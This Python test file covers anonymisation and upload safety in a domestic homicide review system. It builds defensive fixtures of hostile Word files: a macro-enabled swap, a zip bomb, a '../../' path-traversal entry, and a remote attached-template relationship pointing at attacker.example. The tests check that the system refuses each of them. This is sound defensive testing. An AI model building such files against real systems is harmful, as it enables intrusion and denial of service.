"""What stops a name reaching the Home Office or the public, and what stops a hostile or broken file.

Every file here is real: python-docx builds the Word documents and templates, zipfile the hostile
archives. The assertions are what a user sees: the readiness check's failing items with where they
are, the workflow refusing `submit` or `publish` with the reason, the findings on a document, the
message on a refused upload, and nothing stored when something is refused.
"""
from __future__ import annotations

import functools
import hashlib
import io
import os
import zipfile

from docx import Document as WordDocument
from sqlalchemy import func, select
from typer.testing import CliRunner

import app.models  # noqa: F401  (every mapper, for the ORM queries below)
from app.actions.models import Action
from app.audit.models import HistoryEntry
from app.cli import app as cli
from app.core.db import session_scope
from app.documents.docx_text import plain_text
from app.documents.models import Document
from app.imrs.models import ChronologyEntry
from app.overview.models import Overview, Recommendation
from tests.journey import Journey
from tests.support import ok

MiB = 1024 * 1024
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
IDENTIFIERS = ("Zoë", "Zoe", "O'Brien", "Zed", "Quince", "Bartholomew", "1991", "Acacia", "EX1 2AB")
PUBLICATION_KINDS = ("overview_report", "executive_summary", "action_plan")
REBRAND = "Cambridge City Community Safety Partnership — re-branded"


# -- files ------------------------------------------------------------------------------------------

def _saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _readable(data: bytes) -> str:
    """The file's whole text (body, headers, footers, properties), with curly apostrophes made straight."""
    return plain_text(data).replace("\u2019", "'").replace("\u2018", "'")


@functools.cache
def genuine_imr() -> bytes:
    """An agency's own IMR as Word writes it: the victim's name in the header and in a table cell."""
    document = WordDocument()
    document.sections[0].header.paragraphs[0].text = "Exampleshire Constabulary IMR concerning Zoë O'Brien-Smith"
    document.add_heading("Chronology", level=1)
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip(table.rows[0].cells, ("Date", "What happened")):
        cell.paragraphs[0].add_run(text).bold = True
    table.rows[1].cells[0].text = "1 June 2025"
    table.rows[1].cells[1].text = "Officers spoke to Zoë at home about a neighbour's call."
    document.add_paragraph("Adult A was offered a referral.")
    return _saved(document)


def _rezip(base: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, data in add.items():
            dst.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _content_types(base: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        return zf.read("[Content_Types].xml")


def docm() -> bytes:
    """A macro-enabled document: the main part declares the .docm content type."""
    types = _content_types(genuine_imr())
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    assert main in types
    return _rezip(genuine_imr(), replace={"[Content_Types].xml": types.replace(main, b"application/vnd.ms-word.document.macroEnabled.main+xml")})


def with_vba_project() -> bytes:
    return _rezip(genuine_imr(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512})


@functools.cache
def zip_bomb() -> bytes:
    """A genuine IMR with one entry of 300 MB of zeros, written 1 MiB at a time (about 300 KB packed)."""
    out = io.BytesIO(genuine_imr())
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf, zf.open("word/media/padding.bin", "w") as entry:
        chunk = b"\0" * MiB
        for _ in range(300):
            entry.write(chunk)
    data = out.getvalue()
    assert len(data) < 2 * MiB, len(data)
    return data


def path_traversal() -> bytes:
    return _rezip(genuine_imr(), add={"../../evil.xml": b"<evil/>"})


def png_renamed() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" + b"\x00" * 64


def attached_template() -> bytes:
    """Word's own way of pointing at a remote template: a relationship from settings.xml, fetched on open."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/Normal.dotm" TargetMode="External"/></Relationships>'
    )
    return _rezip(genuine_imr(), add={"word/_rels/settings.xml.rels": rels})


def template_with(base: bytes, *, body: str | None = None, footer: str | None = None) -> bytes:
    """A copy of a template with a paragraph added to the body and/or the footer, as a user would in Word."""
    document = WordDocument(io.BytesIO(base))
    if body is not None:
        document.add_paragraph(body)
    if footer is not None:
        document.sections[0].footer.add_paragraph(footer)
    return _saved(document)


# -- the API ------------------------------------------------------------------------------------------

def readiness(j: Journey) -> dict:
    return ok(j.as_("panel_chair").get(f"/reviews/{j.id}/readiness"))


def failing(j: Journey) -> list[dict]:
    return [c for c in readiness(j)["checks"] if not c["passed"]]


def generate(j: Journey, kind: str, variant: str = "restricted", who: str = "panel_chair") -> dict:
    return ok(j.as_(who).post(f"/reviews/{j.id}/documents", json={"kind": kind, "variant": variant}), 201)


def ok_bytes(response) -> bytes:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == DOCX
    return response.content


def download(j: Journey, document_id: str, who: str = "panel_chair"):
    response = j.as_(who).get(f"/documents/{document_id}/content")
    assert response.status_code == 200, response.text
    return response


def upload(j: Journey, who: str, data: bytes, filename: str = "Zoë's IMR.docx", imr: str = "police"):
    return j.as_(who).post(f"/imrs/{j.imrs[imr]}/documents", files={"file": (filename, data, DOCX)})


def put_template(api, world, who: str, kind: str, data: bytes, csp: str = "CAMCITY"):
    return api.as_(who).put(f"/csps/{world.csps[csp]}/templates/{kind}", files={"file": (f"{kind}.docx", data, DOCX)})


def templates_in_force(api, world, who: str = "chair") -> dict[str, dict]:
    body = ok(api.as_(who).get(f"/csps/{world.csps['CAMCITY']}/templates"))
    return {t["kind"]: t for t in body["items"]}


def stored(review_id: str) -> tuple[int, int]:
    """How many documents and history rows the review has: a refusal must leave both as they were."""
    with session_scope() as session:
        return (
            session.scalar(select(func.count()).select_from(Document).where(Document.review_id == review_id)),
            session.scalar(select(func.count()).select_from(HistoryEntry).where(HistoryEntry.review_id == review_id)),
        )


def plant(changes: dict) -> None:
    """Writes text straight into the database, as if it had been typed in at any earlier stage."""
    with session_scope() as session:
        for (model, key, column), value in changes.items():
            setattr(session.get(model, key), column, value)


# -- 1 and 2: names in the review's own text ------------------------------------------------------

def test_a_name_in_any_narrative_field_blocks_submission_until_fixed_and_the_publication_versions_are_clean(api, world):
    j = Journey(api, world).to("csp_signoff")
    assert readiness(j)["ready"] is True
    with session_scope() as session:
        entry_id = session.scalars(select(ChronologyEntry.id).where(ChronologyEntry.imr_id == j.imrs["police"])).one()
    rec_id, action_id = j.recommendations[0], j.actions[0]
    planted = {
        "overview.facts": ((Overview, j.id, "facts"), "Zoë was seen by her GP in May 2025.", "Adult A was seen by her GP in May 2025.", ["Zoë"]),
        f"recommendations/{rec_id}.text": ((Recommendation, rec_id, "text"), "Agencies should have shared what they knew of Bartholomew Quince.",
                                           "Agencies should have shared what they knew of Adult B.", ["Bartholomew Quince"]),
        f"actions/{action_id}.milestones": ((Action, action_id, "milestones"), "Officers briefed on the case of Zed; first cohort trained.",
                                            "Officers briefed on the case; first cohort trained.", ["Zed"]),
        f"chronology/{entry_id}.description": ((ChronologyEntry, entry_id, "description"), "Officers visited 12 Acacia Avenue, postcode EX1 2AB.",
                                               "Officers visited Adult A's home.", ["12 Acacia Avenue", "EX1 2AB"]),
    }
    plant({field: bad for field, bad, _good, _words in planted.values()})

    body = readiness(j)
    assert body["ready"] is False
    found = {c["where"]: c for c in body["checks"] if not c["passed"]}
    assert set(found) == set(planted), found  # every field named, and nothing else fails
    for where, (_field, _bad, _good, words) in planted.items():
        assert found[where]["id"] == "anonymisation"
        for word in words:
            assert f"'{word}'" in found[where]["detail"], (where, found[where]["detail"])

    # Fixed one at a time: each fix clears its own item; submit waits for the last.
    remaining = dict(planted)
    for where, (field, _bad, good, words) in planted.items():
        refused = j.fire(j.chair, "submit", expect=409)
        assert refused["state"] == "csp_signoff"
        reason = " ".join(g["reason"] for g in refused["failed_guards"] if g["guard"] == "readiness_check_passes")
        for pending, (_f, _b, _g, pending_words) in remaining.items():
            assert pending in reason and all(f"'{w}'" in reason for w in pending_words), (pending, reason)
        plant({field: good})
        del remaining[where]
        still = {c["where"] for c in failing(j)}
        assert where not in still and still == set(remaining)

    assert readiness(j)["ready"] is True
    assert j.fire(j.chair, "submit")["state"] == "submitted"

    # What goes to the Home Office and the public: no identifier anywhere in the files, no marking.
    restricted = generate(j, "overview_report")
    control = _readable(download(j, restricted["id"]).content)
    assert "Zoë O'Brien-Smith" in control and "OFFICIAL" in control  # the reader would see them if they were there
    for kind in PUBLICATION_KINDS:
        document = generate(j, kind, "publication")
        assert document["findings"] == [], (kind, document["findings"])
        text = _readable(download(j, document["id"]).content)
        assert "Adult" in text or kind == "action_plan"
        leaked = [word for word in (*IDENTIFIERS, "OFFICIAL") if word in text]
        assert not leaked, (kind, leaked)
    assert "Officers visited Adult A's home." in _readable(download(j, generate(j, "overview_report", "publication")["id"]).content)
    checks = {c["id"]: c for c in readiness(j)["checks"]}
    assert checks["publication_documents"]["passed"] is True


# -- 3: a name in a partnership's template ------------------------------------------------------

def test_publication_is_refused_while_a_publication_document_holds_a_name_from_the_template(api, world):
    j = Journey(api, world).to("cleared")
    csp = world.csps["CAMCITY"]
    base = ok_bytes(api.as_("chair").get("/templates/executive_summary/content"))
    branded = template_with(base, body="In memory of Zed.", footer="Prepared after the death of Zoë O'Brien-Smith")
    installed = ok(put_template(api, world, "chair", "executive_summary", branded))
    assert installed["source"] == "partnership"

    summary = generate(j, "executive_summary", "publication")
    places = {f["where"]: f["words"] for f in summary["findings"]}
    footer = next(w for w in places if w.startswith("footer"))
    assert "Zoë O'Brien-Smith" in places[footer]
    body_place = next(w for w in places if w.startswith("body"))
    assert places[body_place] == ["Zed"]
    assert summary["template_sha256"] == installed["sha256"]

    checks = [c for c in failing(j) if c["id"] == "publication_documents"]
    stored_check = next(c for c in checks if c["where"] == f"documents/{summary['id']}")
    assert "Executive Summary" in stored_check["detail"] and summary["filename"] in stored_check["detail"]
    assert footer in stored_check["detail"] and "'Zoë O'Brien-Smith'" in stored_check["detail"]
    assert body_place in stored_check["detail"] and "'Zed'" in stored_check["detail"]
    # The template in force would put the name into a fresh copy too.
    fresh = next(c for c in checks if c["where"] == "documents.executive_summary.publication")
    assert "Executive Summary" in fresh["detail"] and footer in fresh["detail"]
    assert not [c for c in failing(j) if c["id"] != "publication_documents"]

    refused = j.fire(j.chair, "publish", expect=409, url="https://csp.example/dhr")
    assert refused["state"] == "cleared"
    reason = next(g["reason"] for g in refused["failed_guards"] if g["guard"] == "readiness_check_passes")
    assert "Executive Summary" in reason and footer in reason and "Zoë O'Brien-Smith" in reason

    # Back to the statutory template: the stored copy still holds the name until it is made again.
    assert ok(api.as_("chair").request("DELETE", f"/csps/{csp}/templates/executive_summary"))["source"] == "statutory"
    assert [c["where"] for c in failing(j)] == [f"documents/{summary['id']}"]
    j.fire(j.chair, "publish", expect=409, url="https://csp.example/dhr")
    again = generate(j, "executive_summary", "publication")
    assert again["version"] == summary["version"] + 1 and again["findings"] == []
    assert readiness(j)["ready"] is True
    assert j.fire(j.chair, "publish", url="https://csp.example/dhr")["state"] == "published"


# -- 4: an agency's own IMR --------------------------------------------------------------------

def test_an_uploaded_imr_is_scanned_and_a_hostile_or_oversized_file_is_refused_with_nothing_stored(api, world):
    j = Journey(api, world).to("evidence")
    j.commission()
    j.imr_event("police_author", "police", "acknowledge", author_name="Ivy Independent", author_role="Review officer", independence_confirmed=True)

    data = genuine_imr()
    document = ok(upload(j, "police_author", data), 201)
    assert document["source"] == "uploaded" and document["kind"] == "imr" and document["version"] == 1
    assert document["imr_id"] == j.imrs["police"]
    assert document["sha256"] == hashlib.sha256(data).hexdigest() and document["size"] == len(data)
    places = {f["where"]: f["words"] for f in document["findings"]}
    assert "Zoë O'Brien-Smith" in places["header"]
    assert places["table 1, row 2, column 'What happened'"] == ["Zoë"]
    assert set(places) == {"header", "table 1, row 2, column 'What happened'"}
    # The server names the file: the review's reference, never the name the agency gave it.
    reference = j.get()["reference"]
    assert document["filename"].startswith(reference) and document["filename"].endswith("-v1.docx")
    assert "Zo" not in document["filename"] and "IMR.docx" not in document["filename"]

    # The panel chair sees it, with its warnings, and downloads exactly what was sent.
    listed = ok(j.as_("panel_chair").get(f"/reviews/{j.id}/documents"))["items"]
    mine = next(d for d in listed if d["id"] == document["id"])
    assert mine["findings"] == document["findings"] and mine["created_by_name"] == "Percy Policeauthor"
    response = download(j, document["id"])
    assert response.content == data
    assert reference in response.headers["content-disposition"] and "Zo" not in response.headers["content-disposition"]

    before = stored(j.id)
    hostile = {
        "macro-enabled .docm": (docm(), "macro-enabled"),
        "word/vbaProject.bin": (with_vba_project(), "macro-enabled"),
        "zip bomb": (zip_bomb(), "zip bomb"),
        "path traversal": (path_traversal(), "points outside the package"),
        "PNG renamed .docx": (png_renamed(), "not a ZIP package"),
        "plain text": (b"Chronology: officers attended on 1 June 2025.\n" * 20, "not a ZIP package"),
        "remote attached template": (attached_template(), "attached template"),
        "21 MB": (os.urandom(21 * MiB), "larger than the limit of 20 MB"),
    }
    for label, (content, message) in hostile.items():
        response = upload(j, "police_author", content)
        assert response.status_code == 422, (label, response.status_code, response.text)
        detail = response.json()["detail"]
        assert isinstance(detail, str) and detail.startswith("file: ") and message in detail, (label, detail)
        assert stored(j.id) == before, f"{label}: something was stored"
    assert "http://attacker.example/Normal.dotm" in upload(j, "police_author", attached_template()).json()["detail"]

    # Who may upload, and when.
    assert upload(j, "health_author", data).status_code == 404  # another agency's IMR is invisible
    assert upload(j, "panel_chair", data).status_code == 403
    assert stored(j.id) == before
    imr = ok(j.as_("police_author").get(f"/imrs/{j.imrs['police']}"))
    ok(j.as_("police_author").patch(f"/imrs/{j.imrs['police']}", headers={"If-Match": f'"{imr["version"]}"'}, json={
        "methodology": "Records reviewed.", "analysis": "Risk was not assessed.", "lessons": "Ask about coercive control."}))
    ok(j.as_("police_author").post(f"/imrs/{j.imrs['police']}/chronology", json={
        "occurred_on": "2025-06-01", "description": "Adult A attended an appointment."}), 201)
    j.imr_event("police_author", "police", "send_for_agency_review")
    j.imr_event("police_manager", "police", "quality_assure")
    j.imr_event("panel_chair", "police", "accept")
    before = stored(j.id)
    refused = upload(j, "police_author", data)
    assert refused.status_code == 409 and "accepted" in refused.json()["detail"], refused.text
    assert stored(j.id) == before


# -- 5: partnership templates --------------------------------------------------------------------

def test_a_partnership_installs_its_own_template_and_a_broken_one_is_refused(api, world):
    j = Journey(api, world).to("evidence")
    csp = world.csps["CAMCITY"]
    statutory_overview = ok_bytes(api.as_("chair").get("/templates/overview_report/content"))
    statutory_summary = ok_bytes(api.as_("coordinator").get("/templates/executive_summary/content"))
    statutory_sha = hashlib.sha256(statutory_overview).hexdigest()

    listed = templates_in_force(api, world)
    assert set(listed) == {"imr", "overview_report", "executive_summary", "action_plan", "decision_letter", "imr_commission_letter",
                           "home_office_cover_letter"}
    assert {t["source"] for t in listed.values()} == {"statutory"} and listed["overview_report"]["sha256"] == statutory_sha

    overview = template_with(statutory_overview, body=REBRAND)
    installed = ok(put_template(api, world, "chair", "overview_report", overview))
    assert (installed["source"], installed["version"], installed["uploaded_by_name"]) == ("partnership", 1, "Chris Cspchair")
    assert installed["sha256"] == hashlib.sha256(overview).hexdigest()
    by_coordinator = ok(put_template(api, world, "coordinator", "executive_summary", template_with(statutory_summary, body=REBRAND)))
    assert (by_coordinator["source"], by_coordinator["version"]) == ("partnership", 1)

    listed = templates_in_force(api, world, "coordinator")
    assert {k: t["source"] for k, t in listed.items()} == {
        "imr": "statutory", "overview_report": "partnership", "executive_summary": "partnership",
        "action_plan": "statutory", "decision_letter": "statutory", "imr_commission_letter": "statutory",
        "home_office_cover_letter": "statutory"}
    for kind in ("overview_report", "executive_summary"):
        made = generate(j, kind)
        assert made["template_sha256"] == listed[kind]["sha256"]
        assert REBRAND in plain_text(download(j, made["id"]).content), kind
    assert REBRAND not in plain_text(download(j, generate(j, "action_plan")["id"]).content)

    refusals = {
        "{{ deceased_name }}": (template_with(statutory_overview, body="In memory of {{ deceased_name }}"), "deceased_name"),
        "{{ victim.nickname }}": (template_with(statutory_overview, body="Known as {{ victim.nickname }}"), "nickname"),
        "broken tag": (template_with(statutory_overview, body="Reference {{ review.reference "), "a template tag cannot be read"),
        "not a docx": (b"Cambridge City CSP overview template\n", "not a ZIP package"),
    }
    for label, (content, message) in refusals.items():
        response = put_template(api, world, "chair", "overview_report", content)
        assert response.status_code == 422, (label, response.text)
        assert message in response.json()["detail"], (label, response.json()["detail"])
        assert templates_in_force(api, world)["overview_report"] == listed["overview_report"], f"{label} was installed"

    for who in ("other_chair", "police_author"):
        assert put_template(api, world, who, "overview_report", overview).status_code == 403, who
        assert api.as_(who).get(f"/csps/{csp}/templates").status_code == 403, who
        assert api.as_(who).request("DELETE", f"/csps/{csp}/templates/overview_report").status_code == 403, who
    assert templates_in_force(api, world)["overview_report"]["version"] == 1

    reset = ok(api.as_("chair").request("DELETE", f"/csps/{csp}/templates/overview_report"))
    assert (reset["source"], reset["version"], reset["sha256"]) == ("statutory", 0, statutory_sha)
    assert REBRAND not in plain_text(download(j, generate(j, "overview_report")["id"]).content)
    # Earlier copies stay on record: the next one is the third version, not the first again.
    assert ok(put_template(api, world, "chair", "overview_report", overview))["version"] == 3


# -- 6: the command line -------------------------------------------------------------------------

def test_the_template_commands_export_check_replace_and_reset(api, world, tmp_path):
    runner = CliRunner()
    statutory_overview = ok_bytes(api.as_("chair").get("/templates/overview_report/content"))

    exported = tmp_path / "f.docx"
    result = runner.invoke(cli, ["template", "export", "overview_report", "--out", str(exported)])
    assert result.exit_code == 0, result.output
    assert exported.read_bytes() == statutory_overview

    bad = tmp_path / "bad.docx"
    bad.write_bytes(template_with(statutory_overview, body="In memory of {{ deceased_name }}"))
    result = runner.invoke(cli, ["template", "check", "overview_report", str(bad)])
    assert result.exit_code == 1, result.output
    assert "Refused:" in result.output and "deceased_name" in result.output

    good = tmp_path / "good.docx"
    good.write_bytes(template_with(exported.read_bytes(), body=REBRAND))
    result = runner.invoke(cli, ["template", "check", "overview_report", str(good)])
    assert result.exit_code == 0, result.output

    result = runner.invoke(cli, ["template", "replace", "overview_report", str(bad), "--csp", "CAMCITY"])
    assert result.exit_code == 1 and "Refused:" in result.output, result.output
    assert templates_in_force(api, world)["overview_report"]["source"] == "statutory"

    result = runner.invoke(cli, ["template", "replace", "overview_report", str(good), "--csp", "CAMCITY"])
    assert result.exit_code == 0, result.output
    listed = templates_in_force(api, world)["overview_report"]
    assert (listed["source"], listed["version"], listed["uploaded_by_name"]) == ("partnership", 1, "command line")
    assert listed["sha256"] == hashlib.sha256(good.read_bytes()).hexdigest()
    again = tmp_path / "again.docx"
    assert runner.invoke(cli, ["template", "export", "overview_report", "--out", str(again), "--csp", "CAMCITY"]).exit_code == 0
    assert again.read_bytes() == good.read_bytes()

    result = runner.invoke(cli, ["template", "reset", "overview_report", "--csp", "CAMCITY"])
    assert result.exit_code == 0, result.output
    listed = templates_in_force(api, world)["overview_report"]
    assert (listed["source"], listed["version"]) == ("statutory", 0)
